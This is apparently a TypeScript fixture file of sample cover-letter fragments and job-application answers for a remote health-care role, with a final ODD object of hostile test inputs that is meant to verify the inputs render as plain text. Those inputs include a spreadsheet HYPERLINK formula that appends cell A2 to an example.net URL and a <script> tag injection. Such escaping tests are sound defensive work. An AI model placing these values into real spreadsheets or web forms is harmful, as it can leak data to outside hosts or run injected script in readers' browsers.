export const OPENERS = [
  'A former colleague sent me your posting with the words "this sounds like you".',
  'I have read the posting three times, and I would like to say plainly why I am writing.',
  'I was not looking for a new job until last month.',
  'Honestly, the pay range at the top made me read on, and the rest made me apply.',
  'I work full time and I am writing this on a Sunday, so I will be short.',
  'My contract ends in the spring and I want the next place to be the one where I stay.',
  'I have followed your openings for a year and this is the first one that fits what I can do.',
  "You ask why now. Because I finished my certification in May, and because I'm ready.",
  "I moved to a small town, and there's no hospital within ninety minutes of here.",
  "I took a year off to travel and study. I'm ready to work again.",
  'I changed careers at 38, and this would be my second job in the field.',
  'I am happy where I am, mostly, and there is one thing I cannot do there.',
  'I know your product from the other side: my clinic refers patients to you.',
  'I’ll start with what I don’t bring: I have never worked fully remote.',
]

export const REASONS = [
  'I work best when I can finish a thing. The way you describe a week, with room between the appointments, tells me that somebody has thought about what it takes to do that.',
  'I have worked remotely before and I know what I need for it: a fixed start, a door, one call a day with a camera on, and people who answer when I am stuck. I would bring the first two.',
  'My references will tell you that I ask many questions in the first month and then very few. I would rather ask in the first month.',
  'I looked for reasons not to apply. The benefits are fair, the hours are honest, and the one person I know who has left you still speaks well of the place. I ran out.',
  'I come from a town where the nearest specialist is two hours away. When people there hear "remote care" they laugh, and then they ask whether it works in the barn. I would like to be able to say yes.',
  'For me it comes down to whether I will be able to tell my children at dinner what I did that day. With the role as you describe it, I could.',
  'I have been the new person three times in ten years, in three different systems. I am good at it by now: I write down what confuses me and hand the list to whoever comes after.',
  'What I am looking for is a smaller distance between noticing that something is wrong and being allowed to fix it. You seem to be about the right size for that.',
  'My last two evaluations praised my speed. I would prefer to be somewhere where the first thing that gets mentioned is that nothing had to be done twice.',
  'I would like to work with people who disagree in the open and stay friendly. Your page on how you hire reads as if it had been written by such people.',
  "There's a practical reason as well. My commute is three hours a day, and I'd rather spend them working or asleep.",
  'I am careful by nature, sometimes to a fault, and health care is the one field in which I have been thanked for it.',
  'I have seen two companies grow from twenty people to two hundred, and I know the month in which everything that used to be said across a table has to be written down. I enjoy that month.',
  'Over the summer I talked with four people in jobs like this one. What they all said was that the team decides whether it is a good job. So I would like to meet yours.',
  'I do not need a title. I need work that is clearly mine, somebody who checks it now and then, and patients at the other end of it.',
  'If I am honest, I applied for two other roles before this one, and only here did I want to keep writing after the required fields.',
  'I speak enough Spanish to be useful and I am taking lessons to be better than that. I noticed that your patients may need it and that you do not require it, which seems the right way around.',
  'I left my last place on good terms, and they would take me back. I want to try the other thing first while I still have the curiosity for it.',
  'The pay is a step down from what I have now, and I have done the sums. I am fine with it, and I prefer to say so now than to have you wonder.',
  'I am at the point where I am asked to train others, and I notice that I like their questions better than my own routine. A place that takes teaching seriously would suit me.',
]

export const CLOSERS = [
  'A year from now I would like to be the person a new colleague is told to call.',
  'In a year I would like to know our patients’ voices, and to have made one small thing permanently better.',
  'I can start four weeks after an offer.',
  'I have asked three people who know my work whether I should apply, and none of them laughed.',
  'If it is not a fit I would still be glad about a sentence on why.',
  'I would like to grow into teaching, slowly, once I have earned it.',
  'I would bring patience, a good headset and a habit of writing things down.',
  'What I would need is somebody to tell me in the first month when I get it wrong.',
  'I am not the fastest. I am the one whose work does not come back.',
  'I have no other application open at the moment.',
  'By next winter I would hope to have taken over something that nobody else wants to own.',
  'Thank you for reading this far.',
]

export const LESSONS = [
  'I would do it earlier today, and tell more people about it.',
  'What I took from it: ask the person closest to the problem first.',
  'It taught me to check the result that I like as hard as the one that I do not.',
  'None of it would have worked without the people at the front desk.',
  'I still have the first version, to remind me how bad first versions are.',
  'It was not all me: a colleague did about a third of it, and I would be glad to give you her name.',
  'I would like to do something like it again, with more time.',
  'It is a small thing. I think that most of care is small things done every day.',
  'There is a part that did not work, and I would tell you about that gladly too.',
  'My manager called it luck, and there was some luck in it.',
]

export const REFLECTIONS = [
  'Looking back, the part I would change is the beginning. I spent three weeks getting permission for something that nobody would have forbidden, and in those weeks people waited. Since then I ask once, in writing, with a date after which I will start.',
  'I kept notes on it from the first day, mostly of what I had got wrong, and I gave them to the person who took over. She told me later that the list of mistakes was more use to her than the instructions, and she has added to it.',
  'Not everybody liked it. One colleague thought that it was more work for the same pay, and in the first month she was right. We moved a step to the evening report because of her, and without that it would have been given up by summer.',
  'If you want to check this, my former lead has agreed to be called about it. She will also tell you that I was impatient in the second month, which is true. I apologized at the time and learnt to ask how somebody’s week is before I ask for numbers.',
  'I was not sure that it was the change and not the season, so I looked at the same months of the two years before. It was partly the season. About two thirds of it was us, I think, and that is what I have said ever since.',
  'What I contributed was stubbornness, and a spreadsheet. The idea came from an aide who had said it for years in a meeting where nobody took minutes. Her name is on the poster that we showed at the regional day, before mine.',
  'It sounds smoother here than it was. There was a week when I wanted to give it up and told my manager so. She said to do it for one more week with half of the people. That half-size version is the one that is still in use.',
  'I think about it often because it was so ordinary. No budget, no project name, nobody above us knew. It needed somebody who wrote down what happened for long enough to see it, and I happen to like writing things down.',
  'The result held for as long as I could follow it, which was fourteen months. I do not know how it is today, and I would rather say so than guess.',
]

export const SHORT_WHY = [
  'I need steady remote work and I am good on the phone.',
  'Looking for the next step. My experience is in the resume.',
  'The role matches what I do now almost line by line, and I would like to do it for a company that lets me work from home.',
  'Better hours. I like the people part of the work and I want to keep doing it without the commute.',
  'Please see my LinkedIn. Happy to say more in a call.',
  'I ALREADY APPLIED LAST YEAR AND NEVER HEARD BACK. STILL INTERESTED. I HAVE ALL OF THE REQUIREMENTS.',
  'I believe in your mission and would be honored to join.',
]

export const SHORT_PROUD = [
  'Employee of the quarter twice. Details in the resume.',
  'I trained six new hires and all of them are still there.',
  'Zero complaints in three years.',
  'I raised two kids and finished my degree at night. That is the thing I am proudest of, and it took nine years.',
  'Hard to pick one. I show up, I do the work right, people ask for me by name.',
  'We moved an entire office in one weekend and opened on Monday on time. I made the plan, and I also carried boxes.',
]

export const CARE_STORIES = [
  "A patient on our line apologized for calling four times in one day. I stopped reading from the script and asked what worried him. He couldn't read the label. Now I ask that question on the second call, not the fifth.",
  'Our discharge sheet was three pages long and no one read it. I cut it to one page with a clock drawn on it. Callbacks about dosing dropped by half in a month. I learned to watch people use what I write.',
  "I was the one who told a caller his refill would take two days. It took five, and I hadn't checked. I called him back, said I'd been wrong, and stayed on until it was fixed. I no longer promise times I don't control.",
  'A visitor came to the desk angry about a bill. I found three charges that belonged to someone else. It took eleven calls to correct. I wrote down each step, and that list is now how the team does it.',
  'We served many families who spoke Spanish at home, and children ended up interpreting. I asked for a phone interpreter at every desk and showed that it cost less than the repeat visits. We got it in March.',
  'A woman at the pharmacy counter nodded at everything I said. I asked her to tell me in her own words, and we started over. Since then I end every explanation with that question.',
  'In my store, customers waited on hold for nine minutes and then got transferred. I sat with the phone team for a week and moved two questions to the front. The wait went down to three minutes. The team named the fix after me, which I regret.',
  'It went badly because everyone was careful. Four of us asked the same patient the same twelve questions. By the last round he said yes to everything. I proposed one shared intake, and we tested it on one ward first.',
  "A regular at the clinic was marked as a no-show six times. I called and found out that his bus came at 9:40 and his slot was at 9:30. We moved it. He hasn't missed one since.",
  'I noticed that people left our waiting room to ask whether they had been forgotten. I started walking through every half hour with an honest estimate. Complaints stopped, and the wait was exactly as long as before.',
  "A customer kept returning a device that wasn't broken. I visited with a colleague and saw that the buttons were too small for his gloves. We changed the order form to ask about it.",
  "On video visits I look at a second screen for the chart. One patient asked if I was still there. Now I say out loud what I'm looking at, and I've taught that to every new hire.",
  "My first week on nights, a resident's call light was on for a long time because each of us thought another had it. I suggested saying 'mine' out loud. It sounds silly and it works.",
  "A caller wanted to cancel, and my job was to keep him. I asked what he needed, and we didn't have it. I helped him cancel. He came back a year later and asked for me by name.",
  "We mailed appointment letters in small gray type. I printed one in 16 points and asked ten people in the lobby which they'd rather get. All ten chose the big one. It took four months to change the template.",
  "At the library I helped a man fill in a benefits form that had a box he couldn't truthfully check. I called the office and asked. They removed the box. I read forms differently now.",
  "I once gave directions to the wrong building, twice, to the same person. I drew a map that evening, and it's still taped to the front desk.",
  "A patient was called 'non-compliant' in a note she could read in the portal. She asked me about it, and I asked the team to stop using the word. I write every note as if the person were reading along.",
  'When our scheduling system went down, I kept a paper list and called everyone on it before noon. No one showed up to a closed door. I learned to write things down before I need them.',
  "Two departments each thought the other confirmed interpreters. I put both in one room for twenty minutes. It was the shortest meeting I've ever run, and the most useful.",
  'A delivery kept arriving on days when the customer worked. She had told us five times. I found the field where it should have been saved and asked for it to be shown to drivers.',
  "I trained a new colleague who rushed callers. Instead of correcting her I let her listen to her own calls. She slowed down by herself. I'd like to be taught that way too.",
  "Nothing dramatic. I call people the evening after their first visit and ask if anything was unclear. About one in five has a question they hadn't dared to ask.",
  "I started sitting down when I explain things at the bedside. It takes no longer, and people ask more questions. A colleague timed it because she didn't believe me.",
]

/** Input from scripts and pranksters, which must show up as plain text. */
export const ODD = {
  formula: '=HYPERLINK("https://example.net/portfolio?id="&A2,"Click to see my portfolio")',
  plus: '+1 for remote work. I have done this for ten years in two states, the last four from home, and I would like to go on doing it with a team that talks to each other.',
  dash: '- calm on the phone\n- quick with calendars\n- 6 years with the same clinic\n\nThe clinic closed in August, otherwise I would still be there.',
  markup:
    'I like <b>clear</b> words & short forms. <script>alert("hello from the form")</script> My last manager said "5 > 4", which was about our rating, and I still laugh about it.',
  spam: 'GREAT OFFER!!! Grow your practice with 10,000 verified leads. Visit https://leads.example.net/now to claim your bonus. Reply STOP to stop.',
  accents:
    'Je suis infirmière de formation: I trained in Montréal and later worked in Curaçao and Łódź. Patients call me “Zoë with the dots”. I speak English, français and un poco de español, and I am at home in three charting systems and one very old fax machine.',
  nonLatin:
    '我会说普通话和英语。I have interpreted for patients at a community clinic since 2019, first as a volunteer and then on the payroll. 谢谢您的时间。',
}
